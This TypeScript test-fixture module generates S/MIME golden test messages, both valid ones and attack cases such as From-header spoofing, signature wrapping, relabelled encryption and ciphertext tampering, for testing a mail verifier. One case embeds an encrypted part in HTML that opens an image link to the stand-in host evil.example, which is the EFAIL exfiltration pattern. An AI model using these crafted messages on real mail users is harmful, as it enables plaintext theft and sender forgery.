/**
 * Messages that try to pass for what they are not, and valid ones beside them, made from their parts.
 * The golden cases of `src/smime/testdata` were written from these; signatures differ each time, so
 * they are made once and kept.
 */

import { createPrivateKey } from 'node:crypto'
import { existsSync, mkdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { Asn1Reader } from '../../src/formats/asn1/reader.ts'
import { contextConstructed } from '../../src/formats/asn1/tags.ts'
import {
  element,
  explicit,
  integer,
  objectIdentifier,
  octetString,
  sequence,
  set,
} from '../../src/formats/asn1/writer.ts'
import { decrypterFor } from '../../src/formats/cms/decrypt.ts'
import { CONTENT_TYPE } from '../../src/formats/cms/oids.ts'
import { signDetached, signEnclosed } from '../../src/formats/cms/sign.ts'
import type { CmsSigner } from '../../src/formats/cms/signing-template.ts'
import { encodeBase64Lines } from '../../src/formats/mime/base64.ts'
import type { Certificate } from '../../src/formats/x509/certificate.ts'
import { readCertificates } from '../../src/formats/x509/containers.ts'
import { signerFor } from '../../src/keys/signing.ts'
import { protect } from '../../src/smime/protect.ts'
import { CA_EXTENSIONS, makeCertificate, personExtensions } from './test-pki.ts'

/** The people of the cases: `ca` made all but `stranger`, whose certificate is its own. */
export interface Cast {
  readonly ca: Member
  readonly alice: Member
  readonly mallory: Member
  /** For TLS servers, not for mail. */
  readonly server: Member
  /** Without any address. */
  readonly nameless: Member
  readonly stranger: Member
}

export interface Member {
  readonly certificate: Certificate
  readonly signer: CmsSigner
}

const YEARS = 100 * 365

/** Reads the people's keys from a folder; makes them there first if it is empty. */
export function castIn(folder: string): Cast {
  if (!existsSync(join(folder, 'ca.crt'))) makeCast(folder)
  const member = (name: string): Member => {
    const [certificate] = readCertificates(readFileSync(join(folder, `${name}.crt`)))
    if (certificate === undefined) throw new Error(`no certificate of ${name}`)
    const key = createPrivateKey(readFileSync(join(folder, `${name}.key`)))
    return { certificate, signer: signerFor(key, { certificate }) }
  }
  return {
    ca: member('ca'),
    alice: member('alice'),
    mallory: member('mallory'),
    server: member('server'),
    nameless: member('nameless'),
    stranger: member('stranger'),
  }
}

/** Opens what is encrypted to Alice. */
export function decrypterIn(folder: string, { alice }: Cast) {
  return decrypterFor(alice.certificate, createPrivateKey(readFileSync(join(folder, 'alice.key'))))
}

function makeCast(folder: string): void {
  mkdirSync(folder, { recursive: true })
  const common = { key: 'p256', days: YEARS } as const
  const ca = makeCertificate(folder, {
    ...common,
    name: 'ca',
    subject: '/CN=Test CA',
    extensions: CA_EXTENSIONS,
  })
  const make = (name: string, extensions: readonly string[], issuer?: typeof ca) => {
    const about = { ...common, name, subject: `/CN=${name}`, extensions }
    makeCertificate(folder, issuer === undefined ? about : { ...about, issuer })
  }
  const person = (address: string) =>
    personExtensions(address).map((line) => line.replace('keyEncipherment', 'keyAgreement'))
  make('alice', person('alice@smime.example'), ca)
  make('mallory', person('mallory@evil.example'), ca)
  make('nameless', ['keyUsage=critical,digitalSignature'], ca)
  make('server', ['subjectAltName=email:alice@smime.example', 'extendedKeyUsage=serverAuth'], ca)
  make('stranger', ['subjectAltName=email:alice@smime.example'])
}

const at = new Date('2027-01-01T00:00:00Z')
const FROM = 'From: Alice <alice@smime.example>'
const PLAIN = 'Content-Type: text/plain\r\n\r\nPay Bob 10.\r\n'
const OTHER = 'Content-Type: text/plain\r\n\r\nPay Mallory 10,000.\r\n'
const bytes = (text: string) => Buffer.from(text, 'latin1')
const text = (all: Uint8Array) => Buffer.from(all).toString('latin1')

/** A whole message from a header and an entity. */
const message = (header: string, entity: string) => `${header}\r\nMIME-Version: 1.0\r\n${entity}`

function clearSigned(content: string, signature: Uint8Array, more: { type?: string } = {}): string {
  const type = more.type ?? 'multipart/signed; protocol="application/pkcs7-signature"'
  return (
    `Content-Type: ${type}; micalg=sha-256; boundary="sig"\r\n\r\n--sig\r\n${content}\r\n--sig\r\n` +
    'Content-Type: application/pkcs7-signature; name="smime.p7s"\r\n' +
    `Content-Transfer-Encoding: base64\r\n\r\n${text(encodeBase64Lines(signature))}--sig--\r\n`
  )
}

function cmsEntity(cms: Uint8Array, type = 'application/pkcs7-mime; name="smime.p7m"'): string {
  const base64 = text(encodeBase64Lines(cms))
  return `Content-Type: ${type}\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64}`
}

/** A multipart/mixed around parts. */
function mixed(...parts: string[]): string {
  const inner = parts.map((part) => `--mix\r\n${part}\r\n`).join('')
  return `Content-Type: multipart/mixed; boundary="mix"\r\n\r\n${inner}--mix--\r\n`
}

const textPart = (content: string) => `Content-Type: text/html\r\n\r\n${content}`

/** SignedData from signatures that were made apart. */
function signedDataOf(from: {
  signatures?: readonly Uint8Array[]
  certificates: readonly Certificate[]
  content?: string
}): Uint8Array {
  const infos = (from.signatures ?? []).map(signerInfoOf)
  const content = from.content === undefined ? [] : [explicit(0, octetString(bytes(from.content)))]
  return sequence(
    objectIdentifier(CONTENT_TYPE.signedData),
    explicit(
      0,
      sequence(
        integer(1),
        set(sequence(objectIdentifier('2.16.840.1.101.3.4.2.1'))),
        sequence(objectIdentifier(CONTENT_TYPE.data), ...content),
        element(contextConstructed(0), ...from.certificates.map(({ der }) => der)),
        set(...infos),
      ),
    ),
  )
}

/** The one SignerInfo of a signature, as encoded: the last element of SignedData. */
function signerInfoOf(signature: Uint8Array): Uint8Array {
  const outer = Asn1Reader.ber(signature).sequence()
  outer.objectIdentifier()
  const data = outer.explicit(0).sequence()
  let last = data.element()
  while (!data.isAtEnd) last = data.element()
  return data.within(last).element().encoded
}

/** AuthEnvelopedData said to be EnvelopedData, its cipher left as it was. */
function relabelled(entity: string): string {
  const base64 = entity.slice(entity.indexOf('\r\n\r\n') + 4)
  const outer = Asn1Reader.ber(Buffer.from(base64, 'base64')).sequence()
  outer.objectIdentifier()
  const data = outer.explicit(0).sequence()
  const parts: Uint8Array[] = []
  while (!data.isAtEnd) parts.push(data.element().encoded)
  parts.pop()
  const cms = sequence(
    objectIdentifier(CONTENT_TYPE.envelopedData),
    explicit(0, sequence(...parts)),
  )
  return cmsEntity(cms)
}

/** The case of a name: what it is about, and how it is made. */
export interface AttackCase {
  readonly name: string
  readonly about: string
  /** Judged at another moment than 2027. */
  readonly at?: string
  readonly addressBinding?: false
  make(cast: Cast): Promise<string> | string
}

const detached = (content: string, { signer }: Member) =>
  signDetached(bytes(content), signer, { at })
const signedBy = async (content: string, member: Member) =>
  clearSigned(content, await detached(content, member))
const encrypted = async (entity: string, { alice }: Cast) => {
  const { certificate } = alice
  const recipients = [{ certificate }]
  const made = await protect({ message: bytes(entity), recipients, cipher: 'aes-256-gcm', at })
  return text(made.bytes).replace('MIME-Version: 1.0\r\n', '')
}

const withHeader =
  (header: string) =>
  async ({ alice }: Cast) =>
    message(header, await signedBy(PLAIN, alice))

/** All cases, in the order of their numbers. */
export const ATTACK_CASES: readonly AttackCase[] = [
  { name: 'clear-signed', about: 'A valid signature in the clear.', make: withHeader(FROM) },
  {
    name: 'opaque-signed',
    about: 'A valid signature with the content inside.',
    make: async ({ alice }) =>
      message(FROM, cmsEntity(await signEnclosed(bytes(PLAIN), alice.signer, { at }))),
  },
  {
    name: 'triple-wrapped',
    about: 'M-21: signed, encrypted and signed again by the same person.',
    make: async (cast) => {
      const inside = await encrypted(await signedBy(PLAIN, cast.alice), cast)
      return message(FROM, await signedBy(inside, cast.alice))
    },
  },
  {
    name: 'line-feeds',
    about: 'M-26: a Unix program saved the message with LF; its canonical form was signed.',
    make: async (cast) => (await withHeader(FROM)(cast)).replaceAll('\r\n', '\n'),
  },
  {
    name: 'octet-stream',
    about: 'M-22: a mail program that knows no S/MIME sent the signature as any file.',
    make: async ({ alice }) =>
      message(
        FROM,
        cmsEntity(
          await signEnclosed(bytes(PLAIN), alice.signer, { at }),
          'application/octet-stream; name="smime.p7m"',
        ),
      ),
  },
  {
    name: 'no-protocol',
    about: 'M-17: multipart/signed without protocol, told by its second part.',
    make: async ({ alice }) =>
      message(FROM, clearSigned(PLAIN, await detached(PLAIN, alice), { type: 'multipart/signed' })),
  },
  {
    name: 'list-footer',
    about: 'A-09: a mailing list wrapped the signed message and added a footer.',
    make: async ({ alice }) =>
      message(FROM, mixed(await signedBy(PLAIN, alice), textPart('-- the list'))),
  },
  {
    name: 'text-before',
    about: 'A-09: text stands before the signed part.',
    make: async ({ alice }) =>
      message(FROM, mixed(textPart('Pay Mallory.'), await signedBy(PLAIN, alice))),
  },
  {
    name: 'signed-attachment',
    about: 'A-09: a signed message is attached to one that is not signed.',
    make: async (cast) =>
      message(
        FROM,
        mixed(
          textPart('See below.'),
          `Content-Type: message/rfc822\r\n\r\n${await withHeader(FROM)(cast)}`,
        ),
      ),
  },
  {
    name: 'content-changed',
    about: 'The content was changed after it was signed.',
    make: async ({ alice }) => message(FROM, clearSigned(OTHER, await detached(PLAIN, alice))),
  },
  {
    name: 'other-content-inside',
    about: 'A-06: the signature brings the content it is over, and another is shown.',
    make: async ({ alice }) =>
      message(FROM, clearSigned(OTHER, await signEnclosed(bytes(PLAIN), alice.signer, { at }))),
  },
  {
    name: 'same-content-inside',
    about: 'C-07: the signature brings its content, and it is the one that is shown.',
    make: async ({ alice }) =>
      message(FROM, clearSigned(PLAIN, await signEnclosed(bytes(PLAIN), alice.signer, { at }))),
  },
  {
    name: 'certificates-only',
    about: 'A-08: a bag of certificates stands where the signature should.',
    make: ({ alice }) =>
      message(FROM, clearSigned(PLAIN, signedDataOf({ certificates: [alice.certificate] }))),
  },
  {
    name: 'no-signers',
    about: 'C-05: SignedData with content and without a signature.',
    make: ({ alice }) =>
      message(FROM, cmsEntity(signedDataOf({ certificates: [alice.certificate], content: PLAIN }))),
  },
  {
    name: 'two-signers',
    about: 'A-07: signed by the sender and by somebody else; both signatures are valid.',
    make: async ({ alice, mallory }) =>
      message(
        FROM,
        clearSigned(
          PLAIN,
          signedDataOf({
            signatures: [await detached(PLAIN, alice), await detached(PLAIN, mallory)],
            certificates: [alice.certificate, mallory.certificate],
          }),
        ),
      ),
  },
  {
    name: 'one-signature-broken',
    about: 'A-07: two signatures of the sender, one of them over other content.',
    make: async ({ alice }) =>
      message(
        FROM,
        clearSigned(
          PLAIN,
          signedDataOf({
            signatures: [await detached(PLAIN, alice), await detached(OTHER, alice)],
            certificates: [alice.certificate],
          }),
        ),
      ),
  },
  {
    name: 'from-another',
    about: 'A-10: signed by somebody else than it is from.',
    make: withHeader('From: Bob <bob@smime.example>'),
  },
  {
    name: 'from-another-allowed',
    about: 'The same where addresses are not to be compared.',
    addressBinding: false,
    make: withHeader('From: Bob <bob@smime.example>'),
  },
  {
    name: 'display-name',
    about: "A-10: the signer's address is only the name of the sender.",
    make: withHeader('From: "alice@smime.example" <mallory@evil.example>'),
  },
  {
    name: 'address-before-address',
    about: 'A-10: an address stands where a name should, unquoted.',
    make: withHeader('From: alice@smime.example <mallory@evil.example>'),
  },
  {
    name: 'two-from-fields',
    about: 'A-10: two From fields; mail programs show one of them.',
    make: withHeader(`${FROM}\r\nFrom: bob@smime.example`),
  },
  {
    name: 'two-from-addresses',
    about: 'A-10: two addresses in From.',
    make: withHeader(`${FROM}, bob@smime.example`),
  },
  { name: 'from-empty', about: 'A-10: From without address.', make: withHeader('From: ') },
  { name: 'from-missing', about: 'A-10: no From at all.', make: withHeader('Subject: x') },
  {
    name: 'from-group',
    about: 'A-10: the address is in a group (RFC 6854).',
    make: withHeader('From: team: alice@smime.example;'),
  },
  {
    name: 'sender-only',
    about: 'A-10: the signer is in Sender, somebody else in From.',
    make: withHeader('From: bob@smime.example\r\nSender: alice@smime.example'),
  },
  {
    name: 'domain-in-capitals',
    about: 'H-02: domains are compared in any case.',
    make: withHeader('From: alice@SMIME.example'),
  },
  {
    name: 'longer-domain',
    about: 'H-02: no part of an address is enough.',
    make: withHeader('From: alice@smime.example.evil.example'),
  },
  {
    name: 'other-from-inside',
    about: 'A-10: what is signed has a From of its own, and another.',
    make: async ({ alice }) =>
      message(FROM, await signedBy(`From: bob@smime.example\r\n${PLAIN}`, alice)),
  },
  {
    name: 'signature-around-signature',
    about: "A-14: the sender wrapped somebody else's signed content in a signature of hers.",
    make: async ({ alice, mallory }) =>
      message(FROM, await signedBy(await signedBy(PLAIN, mallory), alice)),
  },
  {
    name: 'signature-inside-signature',
    about: "A-14: somebody wrapped the sender's signed content; what is shown is the sender's.",
    make: async ({ alice, mallory }) =>
      message(FROM, await signedBy(await signedBy(PLAIN, alice), mallory)),
  },
  {
    name: 'broken-around-valid',
    about: 'A-14: a signature around a valid one is broken.',
    make: async ({ alice, mallory }) => {
      const inside = await signedBy(PLAIN, alice)
      return message(FROM, clearSigned(inside, await detached(OTHER, mallory)))
    },
  },
  { name: 'expired', about: 'A-12.', at: '2150-01-01T00:00:00Z', make: withHeader(FROM) },
  {
    name: 'self-signed',
    about: 'H-09: a certificate that vouches for itself and came with the message.',
    make: async ({ stranger }) => message(FROM, await signedBy(PLAIN, stranger)),
  },
  {
    name: 'server-certificate',
    about: 'H-05: a certificate for TLS servers, with the right address.',
    make: async ({ server }) => message(FROM, await signedBy(PLAIN, server)),
  },
  {
    name: 'signed-by-the-authority',
    about: 'A-12: an authority signed as if it were a person.',
    make: async ({ ca }) => message(FROM, await signedBy(PLAIN, ca)),
  },
  {
    name: 'no-address',
    about: 'H-03: the certificate names no address, so nothing binds it to From.',
    make: async ({ nameless }) => message(FROM, await signedBy(PLAIN, nameless)),
  },
  {
    name: 'three-parts',
    about: 'A third part in multipart/signed.',
    make: async (cast) =>
      (await withHeader(FROM)(cast)).replace('--sig--', '--sig\r\n\r\nPay Mallory.\r\n--sig--'),
  },
  {
    name: 'two-content-types',
    about: 'A-16: two Content-Type fields; another reader may take the other one.',
    make: async (cast) =>
      (await withHeader(FROM)(cast)).replace(
        '\r\n\r\n--sig',
        '\r\nContent-Type: text/html\r\n\r\n--sig',
      ),
  },
  {
    name: 'signature-of-zeros',
    about: 'The signature is no CMS.',
    make: () => message(FROM, clearSigned(PLAIN, Buffer.alloc(300))),
  },
  {
    name: 'efail',
    about: 'A-01: an encrypted part between HTML of an attacker is not decrypted.',
    make: async (cast) =>
      message(
        FROM,
        mixed(
          textPart('<img src="http://evil.example/'),
          await encrypted(PLAIN, cast),
          textPart('">'),
        ),
      ),
  },
  {
    name: 'encrypted',
    about: 'Encrypted, not signed.',
    make: async (cast) => message(FROM, await encrypted(PLAIN, cast)),
  },
  {
    name: 'encrypted-tampered',
    about: 'A-03: one bit of the authenticated ciphertext was changed.',
    make: async (cast) => {
      const entity = await encrypted(PLAIN, cast)
      const at = entity.length - 40
      return message(
        FROM,
        entity.slice(0, at) + (entity[at] === 'A' ? 'B' : 'A') + entity.slice(at + 1),
      )
    },
  },
  {
    name: 'relabelled',
    about: 'C-10: AES-GCM said to be EnvelopedData, so that nobody looks at its tag.',
    make: async (cast) => message(FROM, relabelled(await encrypted(PLAIN, cast))),
  },
  {
    name: 'compressed',
    about: 'CMS of a kind that is not supported: CompressedData.',
    make: () =>
      message(
        FROM,
        cmsEntity(
          sequence(
            objectIdentifier(CONTENT_TYPE.compressedData),
            explicit(0, sequence(integer(0))),
          ),
        ),
      ),
  },
  {
    name: 'signed-ciphertext',
    about: 'Encrypted first, then signed: the signature is around what is displayed.',
    make: async (cast) => message(FROM, await signedBy(await encrypted(PLAIN, cast), cast.alice)),
  },
]
